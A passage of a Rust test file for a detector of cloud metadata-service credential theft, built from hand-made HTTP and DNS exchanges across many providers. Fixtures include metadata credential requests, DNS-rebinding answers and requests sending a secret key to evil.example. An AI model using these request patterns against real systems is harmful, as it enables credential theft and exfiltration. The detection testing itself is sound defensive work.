//! Tests of the matcher on hand-made exchanges: every provider, every signal of one exchange, and what must stay silent.

use super::*;
use crate::conn::Proto;
use crate::detect::{CandidateKind, Seen, Spot};
use crate::proto::http::{Body, Head, Message, Start, Version as HttpVersion};

/// A message from its text; lines may end in `\n` alone.
fn message(text: &str) -> Message {
    let (head, body) = text.split_once("\n\n").unwrap_or((text, ""));
    let mut raw = Vec::new();
    let mut add = |bytes: &str| {
        let start = raw.len() as u32;
        raw.extend_from_slice(bytes.as_bytes());
        start..raw.len() as u32
    };
    let mut lines = head.lines().map(str::trim_start);
    let first = lines.next().unwrap();
    let start = match first.strip_prefix("HTTP/1.1 ") {
        Some(rest) => Start::Response { status: rest[..3].parse().unwrap(), phrase: add(&rest[3..]) },
        None => {
            let mut words = first.split(' ');
            Start::Request { method: add(words.next().unwrap()), target: add(words.next().unwrap()) }
        }
    };
    let fields = lines.map(|l| l.split_once(": ").unwrap()).map(|(n, v)| (add(n), add(v))).collect();
    Message {
        first: Timestamp::new(1_795_490_000, 0),
        last: Timestamp::new(1_795_490_000, 0),
        first_index: 0,
        head: Head { raw, start, version: Some(HttpVersion { major: 1, minor: 1 }), fields, complete: true },
        body: Body { len: body.len() as u64, captured: body.as_bytes().to_vec(), whole: true, later: None },
        bytes: text.len() as u64,
        gap: false,
        cut: false,
        complete: true,
    }
}

fn conn(server: &str) -> Conn {
    let server: std::net::SocketAddr = server.parse().unwrap();
    let end = |ip: IpAddr, port| conn::Endpoint { ip, port };
    Conn {
        client_ttl: Some(64),
        server_ttl: Some(64),
        ..Conn::between(end("10.20.0.10".parse().unwrap(), 40000), end(server.ip(), server.port()), Proto::Tcp)
    }
}

fn exchange(request: &str, response: &str, server: &str) -> Transaction {
    let of = |text: &str| (!text.is_empty()).then(|| message(text));
    Transaction {
        conn: conn(server),
        request: of(request),
        response: of(response),
        notes: Vec::new(),
        conflict: false,
        via: None,
        ordinal: 0,
        stream: None,
    }
}

fn detector() -> Detector {
    Detector::new(Arc::new(Catalogue::builtin().unwrap()), Config::default())
}

fn imds(request: &str, response: &str, server: &str) -> Option<Imds> {
    judged(&mut detector(), &exchange(request, response, server)).imds.map(Arc::unwrap_or_clone)
}

/// The verdict; what the response counts for is never skipped.
fn judged(detector: &mut Detector, tx: &Transaction) -> Verdict {
    let verdict = detector.http(tx, true);
    if let (Some(_), Some(request)) = (&verdict.imds, &tx.request) {
        let at_service = detector.metadata_endpoint(tx.conn.server);
        assert!(at_service || detector.reads_response(request, [tx.conn.server.port, 0]), "{request:?}");
    }
    verdict
}

const AWS: &str = "169.254.169.254:80";
const KEY: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

fn aws_keys() -> String {
    format!(
        "{{\n  \"Code\" : \"Success\",\n  \"Type\" : \"AWS-HMAC\",\n  \"AccessKeyId\" : \"ASIAEXAMPLE000DEMO01\",\n  \
         \"SecretAccessKey\" : \"{KEY}\",\n  \"Token\" : \"IQoJb3JpZ2luX2VjEXAMPLEFAKE1/abcdefgh0123456789==\",\n  \
         \"Expiration\" : \"2026-11-24T09:20:57Z\"\n}}"
    )
}

fn ok(body: &str) -> String {
    format!("HTTP/1.1 200 OK\nServer: EC2ws\n\n{body}")
}

const ROLE: &str =
    "GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: 169.254.169.254\nUser-Agent: curl/8.0";

#[test]
fn an_aws_credential_is_proved_and_described() {
    let got = imds(ROLE, &ok(&aws_keys()), AWS).unwrap();
    assert_eq!((got.provider, got.service, got.path_id), ("aws", "imds", Some("aws-role-creds")));
    assert_eq!((got.version, got.sensitivity, got.leg), (Some("v1"), Sensitivity::Credential, Leg::Address));
    let credential = got.credential.unwrap();
    assert!(credential.issued);
    assert_eq!(credential.kind, Some("aws-access-key"));
    assert_eq!(credential.id.as_deref(), Some("ASIAEXAMPLE000DEMO01"));
    assert_eq!(credential.scope.as_deref(), Some("demo"));
    assert_eq!(credential.expires.as_deref(), Some("2026-11-24T09:20:57Z"));
    assert_eq!(credential.fingerprint.as_ref().map(String::len), Some(32));
    assert_eq!(got.signals.slugs(), ["issued", "tool-user-agent", "v1"]);
    let shown = format!("{:?}", imds(ROLE, &ok(&aws_keys()), AWS));
    assert!(!shown.contains("wJalr") && !shown.contains("IQoJ"));
}

#[test]
fn an_ordinary_answer_with_the_markers_of_a_credential_is_told_by_its_fingerprint() {
    let at_the_service = imds(ROLE, &ok(&aws_keys()), AWS).unwrap().credential.unwrap();
    let shaped = |body: &str| {
        let tx = exchange("GET /fetch?u=x HTTP/1.1\nHost: app.example", &ok(body), "10.0.0.80:8080");
        let verdict = judged(&mut detector(), &tx);
        assert_eq!((verdict.imds, verdict.issued.len()), (None, 0), "nothing was issued here");
        verdict.shaped
    };
    let passed_on = shaped(&aws_keys()).unwrap();
    assert_eq!(passed_on.fingerprint, at_the_service.fingerprint, "what joins the two");
    assert_eq!((passed_on.issued, passed_on.id.as_deref()), (false, Some("ASIAEXAMPLE000DEMO01")));
    for ordinary in
        ["", "{}", r#"{"SecretAccessKey":""}"#, r#"{"access_token":null}"#, "SecretAccessKey", &"x".repeat(9000)]
    {
        assert_eq!(shaped(ordinary), None, "{ordinary}");
    }
    assert_eq!(judged(&mut detector(), &exchange(ROLE, &ok(&aws_keys()), AWS)).shaped, None, "it was issued here");
}

#[test]
fn a_2xx_without_the_keys_is_no_credential() {
    let key = "\"SecretAccessKey\" : \"";
    let refusals = [
        r#"{"Code":"AssumeRoleUnauthorizedAccess","Message":"EC2 cannot assume the role"}"#.to_owned(),
        "demo".to_owned(),
        String::new(),
        "<html><body>AccessKeyId SecretAccessKey Token Expiration</body></html>".to_owned(),
        aws_keys().replace("Success", "Failed"),
        aws_keys().replace(&format!("{key}{KEY}"), key),
    ];
    for body in refusals {
        let got = imds(ROLE, &ok(&body), AWS).unwrap();
        assert_eq!(got.credential.map(|c| c.issued), Some(false), "{body}");
        assert!(!got.signals.has(Signal::Issued));
    }
    let refused = imds(ROLE, &ok(r#"{"Code":"Failed","Message":"x"}"#), AWS).unwrap();
    assert!(refused.signals.has(Signal::Refused));
    for (status, signal) in
        [("401 Unauthorized", Signal::Refused), ("404 Not Found", Signal::NotFound), ("503 Busy", Signal::Refused)]
    {
        let got = imds(ROLE, &format!("HTTP/1.1 {status}\nServer: EC2ws\n\n{}", aws_keys()), AWS).unwrap();
        assert!(got.signals.has(signal) && !got.signals.has(Signal::Issued));
    }
    let unanswered = imds(ROLE, "", AWS).unwrap();
    assert!(unanswered.signals.has(Signal::Unanswered));
}

#[test]
fn precursors_are_configuration() {
    for (path, id) in [
        ("/latest/meta-data/iam/security-credentials/", "aws-role-list"),
        ("/latest/meta-data/iam/info", "aws-iam-info"),
        ("/", "aws-root-walk"),
        ("/latest/user-data/iam/security-credentials/", "aws-user-data-bogus"),
    ] {
        let got = imds(
            &format!("GET {path} HTTP/1.1\nHost: 169.254.169.254"),
            &ok(r#"{"Code":"Success","InstanceProfileArn":"x"}"#),
            AWS,
        )
        .unwrap();
        assert_eq!((got.path_id, got.sensitivity, got.credential), (Some(id), Sensitivity::Discovery, None));
        assert_eq!(got.signals.has(Signal::ImpossiblePath), id == "aws-user-data-bogus");
    }
}

#[test]
fn a_role_called_dummy_upgrades_the_event() {
    let got = imds(&ROLE.replace("demo", "dummy"), &ok(&aws_keys()), AWS).unwrap();
    assert_eq!((got.path_id, got.sensitivity), (Some("aws-role-creds"), Sensitivity::Credential));
    assert!(got.credential.unwrap().issued);
}

#[test]
fn session_tokens_tell_versions_and_are_no_credentials() {
    let put = "PUT /latest/api/token HTTP/1.1\nHost: 169.254.169.254\nX-aws-ec2-metadata-token-ttl-seconds: 21600\nUser-Agent: Boto3/1.44 Botocore/1.44";
    let issued = imds(put, &ok("AQAEAEXAMPLEtoken0123456789=="), AWS).unwrap();
    assert_eq!((issued.version, issued.sensitivity, issued.credential), (Some("v2"), Sensitivity::Token, None));
    let (token, lifetime) = issued.issued_token.unwrap();
    assert_eq!(lifetime, 21600);
    assert!(issued.signals.has(Signal::SdkUserAgent));
    let get = format!("{ROLE}\nX-aws-ec2-metadata-token: AQAEAEXAMPLEtoken0123456789==");
    let used = imds(&get, &ok(&aws_keys()), AWS).unwrap();
    assert_eq!((used.version, used.session_token), (Some("v2"), Some(token)));
    assert!(!used.signals.has(Signal::V1));
    assert!(used.headers.iter().any(|field| field == ("x-aws-ec2-metadata-token", "")));
    assert!(used.headers.iter().any(|field| field == ("host", "169.254.169.254")));
}

#[test]
fn every_provider_is_told_and_proved() {
    let token = |extra: &str| {
        format!(
            "HTTP/1.1 200 OK\n\n{{\"access_token\":\"eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL20ifQ.AbCdEfGhIjKlMnOp1234\",{extra}\"token_type\":\"Bearer\"}}"
        )
    };
    let rows = [
        (AWS, "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net HTTP/1.1\nMetadata: True".to_owned(),
            token("\"client_id\":\"11111111-demo\",\"expires_on\":\"1795576766\","), "azure", "azure-token"),
        (AWS, "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\nHost: metadata.google.internal\nMetadata-Flavor: Google".to_owned(),
            token("\"expires_in\":3599,"), "gcp", "gcp-token"),
        ("169.254.169.252:988", "GET /computeMetadata/v1/instance/service-accounts/a@b.iam/token HTTP/1.1\nMetadata-Flavor: Google".to_owned(),
            token("\"expires_in\":3599,"), "gcp", "gcp-token"),
        ("[fd20:ce::254]:80", "GET /computeMetadata/v1beta1/instance/service-accounts/default/token HTTP/1.1".to_owned(),
            token("\"expires_in\":3599,"), "gcp", "gcp-token-beta"),
        (AWS, "POST /instance_identity/v1/iam_token?version=2022-03-01 HTTP/1.1\nAuthorization: Bearer eyJhbGciOiJSUzI1NiJ9.e.x".to_owned(),
            token("\"expires_in\":3600,"), "ibm", "ibm-iam-old"),
        ("169.254.170.2:80", "GET /v2/credentials/0f0f0f0f-demo HTTP/1.1".to_owned(), ok(&aws_keys().replace("\"Code\" : \"Success\",", "\"RoleArn\":\"arn:aws:iam::1:role/r\",")), "aws", "aws-ecs-creds"),
        ("169.254.170.23:80", "GET /v1/credentials HTTP/1.1\nAuthorization: eyJhbGciOiJSUzI1NiJ9.e.x".to_owned(), ok(&aws_keys()), "aws", "aws-eks-podid"),
        ("100.100.100.200:80", "GET /latest/meta-data/ram/security-credentials/role HTTP/1.1".to_owned(),
            ok(r#"{"Code":"Success","AccessKeyId":"STS.NUexample0000000","AccessKeySecret":"abcDEF0123456789abcDEF","SecurityToken":"CAISEXAMPLE0123456789","Expiration":"2026-11-24T09:20:57Z"}"#), "alibaba", "ali-creds"),
        ("169.254.0.23:80", "GET /latest/meta-data/cam/security-credentials/role HTTP/1.1\nHost: metadata.tencentyun.com".to_owned(),
            ok(r#"{"TmpSecretId":"AKIDexample","TmpSecretKey":"abcDEF0123456789abcDEF","ExpiredTime":1795576766,"Expiration":"2026-11-25T03:19:26Z","Token":"tokEN0123456789abcdef","Code":"Success"}"#), "tencent", "ten-creds"),
        (AWS, "GET /openstack/latest/securitykey HTTP/1.1".to_owned(),
            ok(r#"{"credential":{"access":"HST3example","secret":"abcDEF0123456789abcDEF","securitytoken":"tokEN0123456789abcdef","expires_at":"2026-11-24T09:20:57.000000Z"}}"#), "huawei", "huawei-securitykey"),
        (AWS, "GET /opc/v2/identity/key.pem HTTP/1.1\nAuthorization: Bearer Oracle".to_owned(),
            ok("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0123456789abcdefABCDEF\nQWERTYuiop0123456789\n-----END RSA PRIVATE KEY-----\n"), "oracle", "oci-key-v2"),
        ("100.96.0.96:80", "GET /volcstack/latest/iam/security_credentials/role HTTP/1.1".to_owned(),
            ok(r#"{"AccessKeyId":"AKTPexample","SecretAccessKey":"abcDEF0123456789abcDEF","SessionToken":"tokEN0123456789abcdef","ExpiredTime":"2026-11-24T17:20:57+08:00"}"#), "volcengine", "volc-creds"),
        ("10.1.1.1:8080", "GET / HTTP/1.1\nDomU_Request: send_my_password".to_owned(), "HTTP/1.1 200 OK\n\nS3cret!pass".to_owned(), "cloudstack", "cs-password"),
        ("127.0.0.1:41299", "GET /MSI/token?api-version=2019-08-01&resource=https://vault.azure.net HTTP/1.1\nX-IDENTITY-HEADER: abc".to_owned(),
            token("\"expires_on\":\"1795576766\","), "azure", "azure-appsvc-token"),
        ("127.0.0.1:40342", "GET /metadata/identity/oauth2/token?api-version=2020-06-01&resource=x HTTP/1.1\nMetadata: true\nAuthorization: Basic x".to_owned(),
            token("\"expires_on\":\"1795576766\","), "azure", "azure-arc-token"),
        ("127.0.0.1:51679", "GET /v2/credentials/abc HTTP/1.1".to_owned(), ok(&aws_keys()), "aws", "aws-ecs-creds"),
        ("168.63.129.16:80", "GET /machine/a/b?comp=certificates&incarnation=1 HTTP/1.1\nx-ms-version: 2012-11-30".to_owned(),
            ok("<?xml version=\"1.0\"?><CertificateFile><Data>MIINswYJKoZIhvcNAQcDoIINpDCC</Data></CertificateFile>"), "azure", "azure-ws-certs"),
    ];
    for (server, request, response, provider, id) in rows {
        let got = imds(&request, &response, server).unwrap_or_else(|| panic!("{request} is silent"));
        assert_eq!((got.provider, got.path_id), (provider, Some(id)), "{request}");
        let credential = got.credential.clone().unwrap();
        assert!(credential.issued, "{request}");
        assert!(credential.fingerprint.is_some(), "{request}");
    }
}

#[test]
fn scope_expiry_and_identifier_by_provider() {
    let body = "HTTP/1.1 200 OK\n\n{\"access_token\":\"eyJ0eXAiOiJKV1QifQ.eyJhIjoxfQ.AbCdEfGhIjKlMnOp1234\",\"client_id\":\"11111111-demo\",\"expires_in\":\"3600\",\"expires_on\":\"1795576766\",\"resource\":\"r\",\"token_type\":\"Bearer\"}";
    let azure = imds("GET /metadata/identity/oauth2/token?resource=https%3A%2F%2Fvault.azure.net&api-version=1 HTTP/1.1\nMetadata: true", body, AWS).unwrap();
    let credential = azure.credential.unwrap();
    assert_eq!(credential.scope.as_deref(), Some("https://vault.azure.net"));
    assert_eq!(
        (credential.id.as_deref(), credential.expires.as_deref()),
        (Some("11111111-demo"), Some("2026-11-25T03:19:26Z"))
    );
    let gcp = "HTTP/1.1 200 OK\nMetadata-Flavor: Google\n\n{\"access_token\":\"ya29.c.EXAMPLE-fakeFAKEfake0fakeFAKEfake0\",\"expires_in\":3600,\"token_type\":\"Bearer\"}";
    let gcp = imds(
        "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\nMetadata-Flavor: Google",
        gcp,
        AWS,
    )
    .unwrap();
    let credential = gcp.credential.unwrap();
    assert_eq!(
        (credential.scope.as_deref(), credential.expires.as_deref()),
        (Some("default"), Some("2026-11-24T04:13:20Z"))
    );
    assert!(!gcp.signals.has(Signal::RogueResponder));
}

#[test]
fn a_clients_word_does_not_hide_a_credential() {
    for lie in [
        "Metadata-Flavor: Google",
        "Metadata: true",
        "Authorization: Bearer Oracle",
        "Host: metadata.google.internal",
        "X-Metadata-Token: x",
    ] {
        let request = format!("GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\n{lie}");
        let got = imds(&request, &ok(&aws_keys()), AWS).unwrap();
        assert_eq!((got.provider, got.credential.map(|c| c.issued)), ("aws", Some(true)), "{lie}");
    }
}

#[test]
fn who_asks_by_form_and_name() {
    use crate::detect::Standing::{Known, Library, Mismatch, Tool};
    const JAVA: &str = "Accept: text/html, image/gif, image/jpeg, */*; q=0.2\nConnection: keep-alive";
    const RUBY: &str = "Accept-Encoding: gzip;q=1.0,deflate;q=0.6,identity;q=0.3\nAccept: */*";
    let (azure, google) = ("/metadata/identity/oauth2/token?resource=x", "/computeMetadata/v1/project/project-id");
    let (host, flavor, aws) = ("Host: 169.254.169.254", "Metadata-Flavor: Google", "/latest/meta-data/");
    for (target, headers, name, standing) in [
        (azure, format!("Metadata: true\nUser-Agent: Java/17.0.15\n{host}\n{JAVA}"), Some("msal4j"), Known),
        (google, format!("User-Agent: Faraday v2.9.0\n{flavor}\n{RUBY}\n{host}"), Some("google-auth-ruby"), Known),
        (aws, format!("{host}\nUser-Agent: aws-sdk-php/3.316.6 GuzzleHttp/7"), Some("aws-sdk-php"), Known),
        (aws, format!("User-Agent: Java/17.0.15\n{host}\n{JAVA}"), Some("java"), Library),
        (
            aws,
            format!("{host}\nUser-Agent: Go-http-client/1.1\nAccept: */*\nAccept-Encoding: gzip"),
            Some("go"),
            Library,
        ),
        (aws, format!("{host}\nUser-Agent: tinyagent/1.0"), None, Library),
        (aws, format!("{host}\nUser-Agent: curl/8.5.0"), Some("curl"), Tool),
        (aws, format!("{host}\nUser-Agent: tinyagent/1.0\nAccept: */*"), None, Tool),
        // curl under names that it does not have
        (aws, format!("{host}\nUser-Agent: aws-sdk-php/3.316.6 GuzzleHttp/7\nAccept: */*"), None, Mismatch),
        (aws, format!("{host}\nUser-Agent: Go-http-client/1.1\nAccept: */*"), None, Mismatch),
        (aws, format!("{host}\nUser-Agent: GuzzleHttp/7\nAccept: */*"), None, Mismatch),
        (aws, format!("{host}\nUser-Agent: Java-http-client/17.0.15\nAccept: */*"), None, Mismatch),
        (azure, format!("{host}\nUser-Agent: Java/17.0.15\nAccept: */*\nMetadata: true"), None, Mismatch),
        (google, format!("{host}\nUser-Agent: Faraday v2.9.0\nAccept: */*\n{flavor}"), None, Mismatch),
    ] {
        let client = imds(&format!("GET {target} HTTP/1.1\n{headers}"), &ok(""), AWS).unwrap().client;
        assert_eq!((client.name(), client.standing), (name, standing), "{target}\n{headers}");
    }
}

#[test]
fn who_answered_last_decides_what_several_have() {
    let mut detector = detector();
    let request = "GET /openstack/latest/meta_data.json HTTP/1.1\nHost: 169.254.169.254";
    let tx = exchange(request, "HTTP/1.1 200 OK\n\n{}", AWS);
    assert_eq!(detector.http(&tx, true).imds.unwrap().provider, "openstack");
    detector.http(&exchange("GET /openstack/latest/securitykey HTTP/1.1", "HTTP/1.1 200 OK\n\n{}", AWS), true);
    assert_eq!(detector.http(&tx, true).imds.unwrap().provider, "huawei");
    let index = exchange("GET /index.html HTTP/1.1", "HTTP/1.1 404 Not Found\nServer: EC2ws", AWS);
    assert_eq!(detector.http(&index, true).imds.unwrap().provider, "aws");
    let nothing = exchange("GET /index.html HTTP/1.1", "HTTP/1.1 404 Not Found", AWS);
    assert_eq!(detector.http(&nothing, true).imds.unwrap().provider, "unknown");
}

#[test]
fn proxied_legs() {
    let proxy = "10.20.0.10:8080";
    let absolute =
        "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: 169.254.169.254";
    let got = imds(absolute, &ok(&aws_keys()), proxy).unwrap();
    assert_eq!(
        (got.leg, got.provider, got.path.as_str()),
        (Leg::Named, "aws", "/latest/meta-data/iam/security-credentials/demo")
    );
    assert!(
        got.signals.has(Signal::Proxied) && got.signals.has(Signal::Issued) && !got.signals.has(Signal::ForeignHost)
    );
    let connect = imds(
        "CONNECT metadata.google.internal:80 HTTP/1.1\nHost: metadata.google.internal:80",
        "HTTP/1.1 200 OK",
        proxy,
    )
    .unwrap();
    assert_eq!((connect.provider, connect.path.as_str(), connect.sensitivity), ("gcp", "", Sensitivity::Discovery));
    let mut inner = exchange(&ROLE.replace("Host: 169.254.169.254", "Host: x"), &ok(&aws_keys()), proxy);
    inner.via = Some(b"169.254.169.254:80"[..].into());
    assert_eq!(detector().http(&inner, true).imds.unwrap().leg, Leg::Named);
    let dnat =
        imds(&ROLE.replace("Host: 169.254.169.254", "Host: 10.20.0.2"), &ok(&aws_keys()), "10.20.0.2:80").unwrap();
    assert_eq!((dnat.leg, dnat.provider), (Leg::Proved, "aws"));
    assert!(dnat.signals.has(Signal::Proxied));
}

#[test]
fn ordinary_services_are_silent() {
    let page = format!(
        "HTTP/1.1 200 OK\nContent-Type: text/html\n\n<html>curl http://169.254.169.254/ <pre>{}</pre></html>",
        aws_keys()
    );
    let oauth = "HTTP/1.1 200 OK\n\n{\"access_token\":\"abcDEF0123456789\",\"token_type\":\"Bearer\",\"expires_in\":3600,\"expires_on\":1}";
    for (request, response, server) in [
        ("GET /docs/imds HTTP/1.1\nHost: docs.example", page.as_str(), "93.184.216.34:80"),
        (
            "GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: docs.example",
            page.as_str(),
            "93.184.216.34:80",
        ),
        (
            "GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\nHost: app.example",
            "HTTP/1.1 404 Not Found",
            "93.184.216.34:80",
        ),
        ("POST /oauth2/token HTTP/1.1\nHost: login.example", oauth, "93.184.216.34:80"),
        ("GET /metadata/identity/oauth2/token HTTP/1.1\nHost: login.example", oauth, "93.184.216.34:80"),
        (
            "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\nHost: app.example",
            oauth,
            "93.184.216.34:80",
        ),
        ("GET /computeMetadata/v1/docs HTTP/1.1\nHost: app.example", &ok("x"), "93.184.216.34:80"),
        ("GET /latest/api/token HTTP/1.1\nHost: app.example", &ok("x"), "93.184.216.34:80"),
        ("GET /latest/user-data HTTP/1.1\nHost: app.example", &ok("x"), "169.254.7.7:80"),
        ("GET /v1/credentials HTTP/1.1\nHost: app.example", &ok(&aws_keys()), "93.184.216.34:80"),
        ("GET / HTTP/1.1\nHost: localhost", &ok("x"), "127.0.0.1:9001"),
        ("GET /x HTTP/1.1\nHost: 169.254.169.254", &ok("x"), "169.254.169.254:53"),
    ] {
        let request = request.to_owned();
        let got = imds(&request, response, server);
        if server.ends_with(":53") {
            assert_eq!(got.unwrap().leg, Leg::Named);
        } else {
            assert_eq!(got, None, "{request}");
        }
    }
}

#[test]
fn an_answer_without_its_request_is_judged_by_the_address() {
    let got = imds("", &ok(&aws_keys()), AWS).unwrap();
    assert_eq!(
        (got.provider, got.path.as_str(), got.path_id, got.sensitivity),
        ("aws", "", None, Sensitivity::Credential)
    );
    assert!(got.credential.unwrap().issued && got.signals.has(Signal::Issued) && !got.signals.has(Signal::Unanswered));
    let list = imds("", &ok("demo"), AWS).unwrap();
    assert_eq!((list.sensitivity, list.credential), (Sensitivity::Discovery, None));
    assert_eq!(imds("", &ok(&aws_keys()), "93.184.216.34:80"), None);
}

#[test]
fn what_breaks_off_is_judged_by_what_is_there() {
    let whole = aws_keys();
    for (upto, issued) in [("\"Token\"", true), ("\"SecretAccessKey\"", false), ("I/K7MDENG", true)] {
        let at = whole.find(upto).unwrap();
        let mut tx = exchange(ROLE, &ok(&whole[..at]), AWS);
        let response = tx.response.as_mut().unwrap();
        (response.cut, response.complete, response.body.whole) = (true, false, false);
        let got = detector().http(&tx, true).imds.unwrap();
        let credential = got.credential.clone().unwrap();
        assert_eq!(credential.issued, issued, "{upto}");
        assert_eq!(credential.fingerprint.is_some(), upto == "\"Token\"", "{upto}");
        assert!(got.signals.has(Signal::TruncatedCapture));
    }
}

#[test]
fn signals_of_a_driven_server() {
    let request = "GET /latest/meta-data/%69am/security-credentials/demo HTTP/1.1\nHost: rebind.attacker.example\nX-Forwarded-For: 1.2.3.4\nReferer: http://x/\nUser-Agent: Mozilla/5.0";
    let mut tx = exchange(request, &ok(&aws_keys()).replace("EC2ws", "nginx"), AWS);
    tx.conn.client_ttl = Some(63);
    tx.conflict = true;
    let got = detector().http(&tx, true).imds.unwrap();
    for signal in [
        Signal::ForeignHost,
        Signal::Forwarded,
        Signal::BrowserLike,
        Signal::ObfuscatedPath,
        Signal::ExtraHop,
        Signal::TcpOverlapConflict,
        Signal::RogueResponder,
        Signal::V1,
        Signal::Issued,
    ] {
        assert!(got.signals.has(signal), "{signal:?}");
    }
    let plain = imds(&ROLE.replace("Host: 169.254.169.254", "Host: 0xA9FEA9FE:80"), &ok(&aws_keys()), AWS).unwrap();
    assert!(!plain.signals.has(Signal::ForeignHost));
    let wildcard =
        imds(&ROLE.replace("Host: 169.254.169.254", "Host: 169-254-169-254.nip.io"), &ok(&aws_keys()), AWS).unwrap();
    assert!(wildcard.signals.has(Signal::ForeignHost));
    assert!(imds("GET / HTTP/1.1\nHost: 169.254.169.254", "", AWS).unwrap().signals.has(Signal::NoUserAgent));
}

#[test]
fn relayed_tokens_are_seen_outside_signing_headers() {
    let issued = detector().http(&exchange(ROLE, &ok(&aws_keys()), AWS), false).issued;
    let key = Secret::new(KEY.as_bytes(), Part::Key).unwrap();
    assert!(issued.contains(&key), "what is issued is what is looked for");
    let is_key = |seen: &&Seen| key.anchors.iter().any(|anchor| anchor & !3 == seen.anchor());
    let carries = |seen: &[Seen]| seen.iter().filter(is_key).map(|seen| seen.spot()).min();
    let meets = |request: &str, response: &str, server: &str| {
        let exchange = exchange(request, response, server);
        let mut verdict = detector().http(&exchange, false);
        assert!(verdict.carried.is_empty(), "nobody has looked yet");
        verdict.search(&exchange, &Catalogue::builtin().unwrap());
        assert_eq!(detector().http(&exchange, true).carried, verdict.carried);
        (carries(&verdict.carried.request), carries(&verdict.carried.response))
    };
    let server = "93.184.216.34:80";
    assert_eq!(
        meets("GET /fetch?url=x HTTP/1.1\nHost: shop.example", &ok(&aws_keys()), server),
        (None, Some(Spot::Open))
    );
    let sent = |request: &str| meets(request, &ok(""), server);
    let open = (Some(Spot::Open), None);
    assert_eq!(sent(&format!("POST /drop HTTP/1.1\nHost: evil.example\n\nk={KEY}")), open);
    assert_eq!(sent(&format!("GET / HTTP/1.1\nHost: evil.example\nX-Data: {KEY}")), open);
    let bearer = format!("GET / HTTP/1.1\nHost: evil.example\nAuthorization: Bearer {KEY}");
    assert_eq!(sent(&bearer), (Some(Spot::Authorization), None));
    let (host, path) = KEY.split_at(KEY.find('/').unwrap());
    assert_eq!(sent(&format!("GET {path} HTTP/1.1\nHost: {host}")), open);
    let signed = format!("X-Amz-Security-Token: {KEY}\nAuthorization: AWS4-HMAC-SHA256 Credential=A, Signature=00");
    assert_eq!(sent(&format!("GET / HTTP/1.1\nHost: b.example\n{signed}")), (Some(Spot::SignedHeader), None));
    let query = format!("X-Amz-Security-Token={KEY}&X-Amz-Signature=00");
    assert_eq!(sent(&format!("GET /b?{query} HTTP/1.1\nHost: s3.amazonaws.com")), (Some(Spot::Signed), None));
    assert_eq!(meets(ROLE, &ok(&aws_keys()), AWS), (None, None));
}

#[test]
fn connections_without_requests() {
    let detector = detector();
    let at = |server: &str| {
        let time = Timestamp::new(1, 0);
        detector.connection(conn(server), NoRequest::SynOnly, time, time).map(|c| (c.provider, c.service))
    };
    assert_eq!(at(AWS), Some(("unknown", "imds")));
    assert_eq!(at("168.63.129.16:32526"), Some(("azure", "wireserver")));
    assert_eq!(at("169.254.170.2:80"), Some(("aws", "ecs-task")));
    assert_eq!(at("169.254.169.254:53"), None);
    assert_eq!(at("127.0.0.1:51679"), None);
}

#[test]
fn questions_and_answers() {
    use crate::proto::dns::{Message, Name, Question, RData, Record};
    let name = |text: &str| {
        let mut name = Name::default();
        text.split('.').for_each(|label| name.push(label.as_bytes()));
        name
    };
    let ask = |question: &str, answers: Vec<RData>| {
        let questions = vec![Question { name: name(question), qtype: 1, class: 1 }];
        let answers = answers
            .into_iter()
            .map(|data| (if matches!(data, RData::WithName(..)) { 65 } else { 1 }, data))
            .map(|(rtype, data)| Record { name: name(question), rtype, class: 1, ttl: 0, data })
            .collect();
        let message = Message { questions, answers, ..Message::default() };
        let tx = dns::Transaction {
            conn: conn("10.0.0.2:53"),
            query: None,
            response: Some(message.into()),
            notes: vec![],
            question: 0,
        };
        detector().dns(&tx, true)
    };
    let google = ask("MetaData.Google.Internal", vec![]);
    assert_eq!(
        (google.metadata_name, google.name.as_str()),
        (Some(("gcp", "metadata-server")), "metadata.google.internal")
    );
    let rebind = ask(
        "a.attacker.example",
        vec![
            RData::A([203, 0, 113, 80].into()),
            RData::A([169, 254, 169, 254].into()),
            RData::Aaaa("::ffff:100.100.100.200".parse().unwrap()),
        ],
    );
    assert_eq!(rebind.metadata_name, None);
    let alias = ask("a.attacker.example", vec![RData::Name(name("metadata.google.internal"))]);
    assert_eq!(alias.metadata_name, None, "of another type");
    assert_eq!(rebind.other_answers.len(), 1);
    assert_eq!(rebind.metadata_answers.iter().map(|a| a.1).collect::<Vec<_>>(), ["unknown", "alibaba"]);
    assert_eq!(ask("localhost", vec![RData::A([127, 0, 0, 1].into())]).metadata_answers, []);
    // Priority 1, target ".", alpn, then an address to connect to at once.
    let parameters = [&[0, 1, 0, 3, 2, b'h', b'2', 0, 4, 0, 4][..], &[169, 254, 169, 254]].concat();
    let hint = RData::WithName(vec![0, 1], Name::default(), parameters);
    assert_eq!(ask("a.attacker.example", vec![hint]).metadata_answers.len(), 1);
}

/// A request made from an entry's own pattern, headers and endpoint is told to be that entry.
#[test]
fn every_entry_can_be_reached() {
    let catalogue = Catalogue::builtin().unwrap();
    let mut missed = Vec::new();
    for path in catalogue.paths() {
        let entry = path.entry;
        let Some(endpoint) = path
            .endpoints
            .iter()
            .find(|e| e.by_address() && !e.addresses.is_empty())
            .or_else(|| path.endpoints.first())
        else {
            continue;
        };
        let ip = endpoint.addresses.first().copied().unwrap_or_else(|| IpAddr::from([10, 1, 1, 1]));
        let port = endpoint.ports.first().copied().unwrap_or(41299);
        let server = std::net::SocketAddr::new(ip, port).to_string();
        let headers: String = entry
            .required_headers
            .iter()
            .map(|choice| &choice.0[0])
            .map(|rule| format!("\n{}: {}", rule.name, rule.value.as_deref().unwrap_or("x")))
            .collect();
        let host = endpoint
            .domains
            .iter()
            .find_map(|d| d.literal())
            .filter(|_| ip == IpAddr::from([10, 1, 1, 1]))
            .unwrap_or("x");
        for pattern in &entry.patterns {
            let query: String = entry.query.iter().map(|rule| format!("{}&", rule.sample())).collect();
